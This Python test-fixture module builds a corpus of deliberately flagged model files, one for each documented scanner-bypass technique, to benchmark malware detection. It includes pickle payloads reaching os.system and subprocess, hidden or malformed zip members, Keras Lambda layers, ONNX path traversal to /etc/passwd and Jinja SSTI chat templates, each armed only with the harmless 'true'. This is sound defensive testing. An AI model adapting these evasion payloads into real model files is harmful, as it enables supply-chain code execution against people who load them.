"""A corpus of benign-but-flagged model files, built in code, one per known scanner-bypass technique.

Every payload calls something harmless (os.system("true") or the like) and is never loaded. Each case
names the advisory, issue or paper it comes from (shared/research/supply-chain.md, section 2). Used
by the tests (every case must be flagged at medium or above) and by benchmarks/scan_detection.py.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

# -- raw opcode helpers (protocol numbers in names); nothing here is ever unpickled ------------------


def _unicode(s: str) -> bytes:  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def p2_global_call(module: str, name: str, arg: str = "true") -> bytes:
    """Protocol 2: GLOBAL module name; BINUNICODE arg; TUPLE1; REDUCE; STOP."""
    a = arg.encode()
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(a)) + a + b"\x85R."


def p4_stack_global_call(module: str, name: str, arg: str = "true") -> bytes:
    """Protocol 4: SHORT_BINUNICODE module, name; STACK_GLOBAL; arg; TUPLE1; REDUCE; STOP (with a frame)."""
    body = _unicode(module) + b"\x94" + _unicode(name) + b"\x94\x93\x94" + _unicode(arg) + b"\x94\x85\x94R\x94."
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def p0_global_call(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n(S'true'\ntR.".encode()


SYSTEM = p2_global_call("os", "system")


@dataclass(frozen=True)
class Case:
    name: str
    technique: str
    reference: str
    build: Callable[[Path], Path]  # writes the file (or folder) under the given folder and returns it


def _write(name: str, data: bytes) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        (d / name).write_bytes(data)
        return d / name

    return build


def _zip(
    name: str,
    members: dict[str, bytes],
    *,
    flag_bits: int = 0,
    bad_crc: bool = False,
    hidden: dict[str, bytes] | None = None,
    method: int = zipfile.ZIP_STORED,
) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=method) as z:
            for n, data in members.items():
                z.writestr(n, data)
        raw = bytearray(buf.getvalue())
        if hidden:  # local entries before the real archive that the central directory never lists
            pre = io.BytesIO()
            with zipfile.ZipFile(pre, "w") as z:
                for n, data in hidden.items():
                    z.writestr(n, data)
            p = pre.getvalue()
            local = p[: p.index(b"PK\x01\x02")]
            raw = bytearray(_shift_central_directory(bytes(raw), len(local)))
            raw = bytearray(local) + raw
        if flag_bits or bad_crc:
            _patch_headers(raw, flag_bits, bad_crc)
        (d / name).write_bytes(bytes(raw))
        return d / name

    return build


def _shift_central_directory(raw: bytes, by: int) -> bytes:
    """Add `by` to every central-directory local-header offset and to the directory's own offset."""
    out = bytearray(raw)
    pos = raw.index(b"PK\x01\x02")
    while raw[pos : pos + 4] == b"PK\x01\x02":
        off = struct.unpack_from("<I", raw, pos + 42)[0]
        struct.pack_into("<I", out, pos + 42, off + by)
        nlen, elen, clen = struct.unpack_from("<HHH", raw, pos + 28)
        pos += 46 + nlen + elen + clen
    end = raw.rindex(b"PK\x05\x06")
    struct.pack_into("<I", out, end + 16, struct.unpack_from("<I", raw, end + 16)[0] + by)
    return bytes(out)


def _patch_headers(raw: bytearray, flag_bits: int, bad_crc: bool) -> None:
    for sig, flag_at, crc_at in ((b"PK\x03\x04", 6, 14), (b"PK\x01\x02", 8, 16)):
        pos = raw.find(sig)
        while pos != -1:
            if flag_bits:
                struct.pack_into("<H", raw, pos + flag_at, struct.unpack_from("<H", raw, pos + flag_at)[0] | flag_bits)
            if bad_crc:
                struct.pack_into("<I", raw, pos + crc_at, 0xDEADBEEF)
            pos = raw.find(sig, pos + 4)


def _torch_zip(
    name: str, data_pkl: bytes, extra: dict[str, bytes] | None = None, **kw: object
) -> Callable[[Path], Path]:
    members = {f"{name}/data.pkl": data_pkl, f"{name}/version": b"3\n", f"{name}/byteorder": b"little", **(extra or {})}
    return _zip(f"{name}.pt", members, **kw)  # type: ignore[arg-type]


def _legacy_torch(payload_in: int) -> Callable[[Path], Path]:
    """Legacy torch.save: magic, protocol, sys_info, data, storage keys pickles; payload in one of them."""
    import pickle

    parts = [
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2),
        pickle.dumps(1001, protocol=2),
        pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        pickle.dumps({"w": 1}, protocol=2),
        pickle.dumps([], protocol=2),
    ]
    parts[payload_in] = SYSTEM
    return _write(f"legacy{payload_in}.pt", b"".join(parts))


def _joblib_compressed(kind: str) -> Callable[[Path], Path]:
    comp: dict[str, Callable[[bytes], bytes]] = {
        "gzip": gzip.compress, "zlib": zlib.compress, "bz2": bz2.compress, "xz": lzma.compress,
    }  # fmt: skip
    return _write(f"model.{kind}.joblib", comp[kind](SYSTEM))


def _npy_object() -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - len(header)) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + SYSTEM


def _tar(name: str, members: dict[str, bytes]) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        with tarfile.open(d / name, "w") as t:
            for n, data in members.items():
                info = tarfile.TarInfo(n)
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
        return d / name

    return build


def _sevenzip(name: str, members: dict[str, bytes]) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        import py7zr

        with py7zr.SevenZipFile(d / name, "w") as z:
            for n, data in members.items():
                z.writestr(data, n)
        return d / name

    return build


def _empty_h5() -> bytes:
    import tempfile

    import h5py

    with tempfile.TemporaryDirectory() as d:
        with h5py.File(Path(d) / "w.h5", "w") as h:
            h.create_group("layers")
        return (Path(d) / "w.h5").read_bytes()


def _keras(name: str, config: dict) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        return _zip(
            name,
            {
                "metadata.json": b'{"keras_version": "3.6.0"}',
                "config.json": json.dumps(config).encode(),
                "model.weights.h5": _empty_h5(),
            },
        )(d)

    return build


def _lambda_layer(name: str) -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": name,
            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA", "defaults": None}},
        },
    }


def _keras_seq(layers: list) -> dict:
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": layers}}


def _h5_lambda(d: Path) -> Path:
    import h5py

    with h5py.File(d / "model.h5", "w") as h:
        h.attrs["model_config"] = json.dumps({"class_name": "Functional", "config": {"layers": [_lambda_layer("l")]}})
    return d / "model.h5"


def _onnx_external(loc: str) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        import onnx
        from onnx import TensorProto, helper

        t = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1])
        t.data_location = TensorProto.EXTERNAL
        t.external_data.add(key="location", value=loc)
        node = helper.make_node("Identity", ["w"], ["y"])
        g = helper.make_graph([node], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])], [t])
        m = helper.make_model(g, producer_name="corpus")
        path = d / f"external{abs(hash(loc)) % 1000}.onnx"
        path.write_bytes(m.SerializeToString())
        _ = onnx
        return path

    return build


def _gguf(kv: list[tuple[str, str]], n_kv: int | None = None, n_tensors: int = 0) -> bytes:
    out = b"GGUF" + struct.pack("<IQQ", 3, n_tensors, len(kv) if n_kv is None else n_kv)
    for k, v in kv:
        kb, vb = k.encode(), v.encode()
        out += struct.pack("<Q", len(kb)) + kb + struct.pack("<I", 8) + struct.pack("<Q", len(vb)) + vb
    return out


SSTI = "{{ lipsum.__globals__['os'].popen('true').read() }}"
SSTI_CYCLER = "{{ cycler.__init__.__globals__.os.popen('true') }}"


def _safetensors(header: bytes, body: bytes = b"") -> bytes:
    return struct.pack("<Q", len(header)) + header + body


def _hf_folder(name: str, files: dict[str, bytes]) -> Callable[[Path], Path]:
    def build(d: Path) -> Path:
        root = d / name
        root.mkdir()
        for n, data in files.items():
            (root / n).write_bytes(data)
        return root

    return build


def _frame_lie() -> bytes:
    """FRAME declares 2 bytes but the payload continues past it (fickling test_bypasses, #317)."""
    body = SYSTEM[2:]
    return b"\x80\x04\x95" + struct.pack("<Q", 2) + body


def _memo_mix() -> bytes:
    """Module and name reach STACK_GLOBAL through BINPUT / LONG_BINPUT / MEMOIZE and BINGET (picklescan #14)."""
    return (
        b"\x80\x04"
        + _unicode("os")
        + b"q\x05"
        + _unicode("system")
        + b"r\x09\x00\x00\x00"
        + b"0"
        + b"0"
        + b"h\x05"
        + b"j\x09\x00\x00\x00"
        + b"\x93"
        + _unicode("true")
        + b"\x85R."
    )


def _computed_name() -> bytes:
    """The module name is the result of a call (str('os')): no static scanner can read it."""
    return (
        b"\x80\x02cbuiltins\nstr\n"
        + _unicode("os")
        + b"\x85R"
        + _unicode("system")
        + b"\x93"
        + _unicode("true")
        + b"\x85R."
    )


def _string_operands() -> bytes:
    """STACK_GLOBAL fed by STRING opcodes rather than unicode (GHSA-9gvj-pp9x-gcfr)."""
    return b"\x80\x04S'os'\nS'system'\n\x93S'true'\n\x85R."


def _ext_opcode() -> bytes:
    return b"\x80\x02\x82\x01" + _unicode("true") + b"\x85R."


def _nested_zip() -> Callable[[Path], Path]:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("archive/data.pkl", SYSTEM)
    return _zip("nested.zip", {"outer/readme.txt": b"hello", "outer/inner.pt": inner.getvalue()})


CASES: list[Case] = [
    Case(
        "p2-os-system",
        "GLOBAL os.system, protocol 2",
        "picklescan README; fickling UNSAFE_IMPORTS",
        _write("p2.pkl", SYSTEM),
    ),
    Case(
        "p0-posix-system",
        "protocol 0 text pickle, posix.system",
        "picklescan GHSA-769v-p64c-89pr (proto 0 missed)",
        _write("p0.pkl", p0_global_call("posix", "system")),
    ),
    Case(
        "p0-builtin-eval",
        "Python 2 __builtin__.eval",
        "fickling UNSAFE_IMPORTS",
        _write("p0b.pkl", p0_global_call("__builtin__", "eval")),
    ),
    Case("inst", "INST opcode", "supply-chain.md 8 (INST)", _write("inst.pkl", b"(S'true'\nios\nsystem\n.")),
    Case(
        "obj", "OBJ opcode", "GHSA-mxhj-88fx-4pcv (OBJ+POP)", _write("obj.pkl", b"\x80\x02(cos\nsystem\nS'true'\no0N.")
    ),
    Case(
        "newobj",
        "NEWOBJ on subprocess.Popen",
        "supply-chain.md 8",
        _write("newobj.pkl", b"\x80\x02csubprocess\nPopen\n" + _unicode("true") + b"\x85\x81."),
    ),
    Case(
        "p4-stack-global",
        "STACK_GLOBAL protocol 4 with frame",
        "picklescan scanner.py STACK_GLOBAL",
        _write("p4.pkl", p4_stack_global_call("os", "system")),
    ),
    Case(
        "p5-stack-global",
        "STACK_GLOBAL protocol 5",
        "supply-chain.md 1",
        _write("p5.pkl", b"\x80\x05" + p4_stack_global_call("builtins", "exec")[2:]),
    ),
    Case(
        "string-operands",
        "STACK_GLOBAL with STRING operands",
        "GHSA-9gvj-pp9x-gcfr",
        _write("str.pkl", _string_operands()),
    ),
    Case(
        "memo-mix",
        "memo PUT/MEMOIZE/GET mix feeding STACK_GLOBAL",
        "picklescan #14, #52",
        _write("memo.pkl", _memo_mix()),
    ),
    Case(
        "dotted-name",
        "dotted name pathlib + os.system",
        "GHSA-5j3x-jp52-966f",
        _write("dotted.pkl", p4_stack_global_call("pathlib", "os.system")),
    ),
    Case(
        "computed-name", "import name computed at load time", "modelscan #331", _write("computed.pkl", _computed_name())
    ),
    Case(
        "importlib",
        "importlib.import_module",
        "picklescan PR #74 (missing)",
        _write("importlib.pkl", p2_global_call("importlib", "import_module", "os")),
    ),
    Case(
        "uuid-gadget",
        "uuid._get_command_stdout",
        "picklescan GHSA (stdlib gadget)",
        _write("uuid.pkl", p2_global_call("uuid", "_get_command_stdout")),
    ),
    Case(
        "numpy-builtins",
        "numpy.__builtins__ attribute",
        "modelscan #330",
        _write("npb.pkl", p4_stack_global_call("numpy", "__builtins__")),
    ),
    Case(
        "runpy",
        "runpy._run_code",
        "Hide and Seek arXiv 2508.19774",
        _write("runpy.pkl", p2_global_call("runpy", "_run_code")),
    ),
    Case(
        "pydoc", "pydoc.pipepager", "picklescan GHSA (pydoc)", _write("pydoc.pkl", p2_global_call("pydoc", "pipepager"))
    ),
    Case("pip-main", "pip.main", "CVE-2025-1716", _write("pip.pkl", p2_global_call("pip", "main"))),
    Case(
        "asyncio-sub",
        "asyncio.unix_events submodule",
        "CVE-2025-10157",
        _write("asyncio.pkl", p2_global_call("asyncio.unix_events", "_UnixSubprocessTransport")),
    ),
    Case(
        "collect-env",
        "torch.utils.collect_env.run",
        "picklescan torch gadget GHSA",
        _write("collect.pkl", p2_global_call("torch.utils.collect_env", "run")),
    ),
    Case(
        "numpy-runstring",
        "numpy.testing._private.utils.runstring",
        "supply-chain.md 4",
        _write("runstring.pkl", p2_global_call("numpy.testing._private.utils", "runstring")),
    ),
    Case(
        "operator-attrgetter",
        "_operator.attrgetter indirection",
        "GHSA-6ggj-6f2q-f7mx",
        _write("op.pkl", p2_global_call("_operator", "attrgetter", "system")),
    ),
    Case(
        "functools-partial",
        "functools.partial",
        "supply-chain.md 5-6",
        _write("partial.pkl", p2_global_call("functools", "partial")),
    ),
    Case(
        "pickle-loads",
        "nested pickle.loads",
        "GHSA-wccx-j62j-r448",
        _write("nested.pkl", p2_global_call("_pickle", "loads")),
    ),
    Case("torch-load", "nested torch.load", "supply-chain.md 5", _write("tload.pkl", p2_global_call("torch", "load"))),
    Case("marshal", "marshal.loads", "picklescan PR #74", _write("marshal.pkl", p2_global_call("marshal", "loads"))),
    Case(
        "webbrowser",
        "webbrowser.open (network)",
        "supply-chain.md 3",
        _write("web.pkl", p2_global_call("webbrowser", "open")),
    ),
    Case(
        "socket",
        "socket.create_connection",
        "supply-chain.md 3",
        _write("sock.pkl", p2_global_call("socket", "create_connection")),
    ),
    Case(
        "scanner-evasion",
        "imports fickling (scanner deactivation)",
        "supply-chain.md 9",
        _write("evade.pkl", p2_global_call("fickling", "hook")),
    ),
    Case("ext-opcode", "EXT1 copyreg extension registry", "supply-chain.md 8", _write("ext.pkl", _ext_opcode())),
    Case("frame-lie", "FRAME length lie", "fickling #317", _write("frame.pkl", _frame_lie())),
    Case(
        "stacked-2nd",
        "payload in the 2nd stacked pickle",
        "supply-chain.md 9",
        _write("stacked.pkl", b"\x80\x02}q\x00." + SYSTEM),
    ),
    Case(
        "broken-tail",
        "payload followed by garbage (nullifAI)",
        "ReversingLabs nullifAI",
        _write("broken.pkl", SYSTEM[:-1] + b"\xff\xfe garbage"),
    ),
    Case("raw-pickle-bin", "raw pickle named .bin", "CVE-2025-10155", _write("pytorch_model.bin", SYSTEM)),
    Case(
        "renamed-safetensors", "pickle renamed .safetensors", "supply-chain.md 10", _write("model.safetensors", SYSTEM)
    ),
    Case(
        "legacy-torch-data",
        "legacy .pt, payload in the data pickle",
        "supply-chain.md table (modelscan misses)",
        _legacy_torch(3),
    ),
    Case("legacy-torch-sysinfo", "legacy .pt, payload in sys_info", "supply-chain.md 10", _legacy_torch(2)),
    Case("torch-zip", "PyTorch zip data.pkl payload", "picklescan zip support", _torch_zip("archive", SYSTEM)),
    Case(
        "zip-member-txt-p4",
        "pickle member named data.txt (proto 4)",
        "GHSA-769v-p64c-89pr",
        _torch_zip("a1", b"\x80\x02}.", {"a1/data.txt": p4_stack_global_call("os", "system")}),
    ),
    Case(
        "zip-member-txt-p0",
        "pickle member named data.txt (proto 0)",
        "GHSA-769v-p64c-89pr (proto 0)",
        _torch_zip("a2", b"\x80\x02}.", {"a2/data.txt": p0_global_call("os", "system")}),
    ),
    Case(
        "zip-flag-bits",
        "zip encryption / flag bits set",
        "GHSA-w8jq-xcqf-f792",
        _torch_zip("a3", SYSTEM, flag_bits=0x1),
    ),
    Case(
        "zip-bad-crc",
        "zip with a wrong CRC",
        "CVE-2025-10156 (GHSA-7q5r-7gvp-wc82)",
        _torch_zip("a4", SYSTEM, bad_crc=True),
    ),
    Case(
        "zip-hidden-member",
        "member missing from the central directory",
        "supply-chain.md 10",
        _zip("hidden.pt", {"a5/data.pkl": b"\x80\x02}."}, hidden={"a5/extra.pkl": SYSTEM}),
    ),
    Case(
        "zip-deflated",
        "deflate-compressed payload member",
        "supply-chain.md 10",
        _zip("deflated.pt", {"a6/data.pkl": SYSTEM}, method=zipfile.ZIP_DEFLATED),
    ),
    Case("zip-nested", "zip inside a zip", "supply-chain.md 10", _nested_zip()),
    Case(
        "torchscript",
        "TorchScript archive (code/ + constants.pkl)",
        "CVE-2025-32434",
        _zip(
            "ts.pt",
            {
                "m/data.pkl": b"\x80\x02}.",
                "m/constants.pkl": b"\x80\x02).",
                "m/code/__torch__/m.py": b"def f(): pass\n",
            },
        ),
    ),
    Case(
        "tar-legacy",
        "legacy tar torch archive",
        "pytorch#145020",
        _tar("model.tar", {"sys_info": b"\x80\x02}.", "pickle": SYSTEM}),
    ),
    Case(
        "7z-no-ext",
        "7z archive, member without extension",
        "nullifAI (picklescan #35)",
        _sevenzip("model.7z", {"archive/data": SYSTEM}),
    ),
    Case(
        "joblib-gzip",
        "gzip-compressed joblib",
        "supply-chain.md table (joblib compressors)",
        _joblib_compressed("gzip"),
    ),
    Case("joblib-zlib", "zlib-compressed joblib", "joblib/compressor.py", _joblib_compressed("zlib")),
    Case("joblib-bz2", "bz2-compressed joblib", "joblib/compressor.py", _joblib_compressed("bz2")),
    Case("joblib-xz", "xz-compressed joblib", "joblib/compressor.py", _joblib_compressed("xz")),
    Case("npy-object", ".npy object array with payload", "supply-chain.md table", _write("obj.npy", _npy_object())),
    Case("npz-object", ".npz member object array", "supply-chain.md 10", _zip("arrays.npz", {"a.npy": _npy_object()})),
    Case(
        "keras-lambda",
        ".keras Lambda layer",
        "modelscan keras scanner",
        _keras("lambda.keras", _keras_seq([_lambda_layer("l")])),
    ),
    Case(
        "keras-nested-lambda",
        ".keras Lambda inside a nested model",
        "supply-chain.md 11",
        _keras("nested.keras", _keras_seq([_keras_seq([_lambda_layer("inner")])])),
    ),
    Case(
        "keras-module",
        ".keras arbitrary module",
        "CVE-2025-1550",
        _keras("module.keras", _keras_seq([{"module": "os", "class_name": "system", "config": {"name": "x"}}])),
    ),
    Case("h5-lambda", "HDF5 Lambda (safe_mode ignored)", "CVE-2025-9905", _h5_lambda),
    Case("onnx-traversal", "ONNX external data ../", "CVE-2024-27318", _onnx_external("../../etc/passwd")),
    Case("onnx-absolute", "ONNX external data absolute path", "CVE-2025-51480", _onnx_external("/etc/passwd")),
    Case(
        "gguf-counts",
        "GGUF n_kv beyond the file",
        "CVE-2024-25664 family",
        _write("counts.gguf", _gguf([], n_kv=1 << 40)),
    ),
    Case(
        "gguf-ssti",
        "GGUF chat template reaching lipsum.__globals__",
        "CVE-2024-34359",
        _write("ssti.gguf", _gguf([("general.name", "m"), ("tokenizer.chat_template", SSTI)])),
    ),
    Case(
        "safetensors-header",
        "safetensors header length beyond the file",
        "safetensors tensor.rs",
        _write("big.safetensors", struct.pack("<Q", 1 << 30) + b'{"a":1}'),
    ),
    Case(
        "safetensors-overlap",
        "overlapping tensor offsets",
        "safetensors validate()",
        _write(
            "overlap.safetensors",
            _safetensors(
                b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
                b"\0" * 4,
            ),
        ),
    ),
    Case(
        "safetensors-trailing",
        "trailing bytes after the tensors",
        "safetensors MetadataIncompleteBuffer",
        _write(
            "trail.safetensors",
            _safetensors(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4 + SYSTEM),
        ),
    ),
    Case(
        "safetensors-duplicate",
        "duplicate JSON keys",
        "supply-chain.md 3 (serde keeps the last)",
        _write(
            "dup.safetensors",
            _safetensors(
                b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},'
                b'"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
                b"\0" * 4,
            ),
        ),
    ),
    Case(
        "hf-auto-map",
        "config.json auto_map + custom code",
        "transformers trust_remote_code",
        _hf_folder(
            "remote",
            {
                "config.json": b'{"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}',
                "modeling_x.py": b"import os\nos.system('true')\n",
            },
        ),
    ),
    Case(
        "hf-chat-template",
        "tokenizer_config.json chat template SSTI",
        "CVE-2026-5760",
        _hf_folder("tmpl", {"tokenizer_config.json": json.dumps({"chat_template": SSTI_CYCLER}).encode()}),
    ),
]
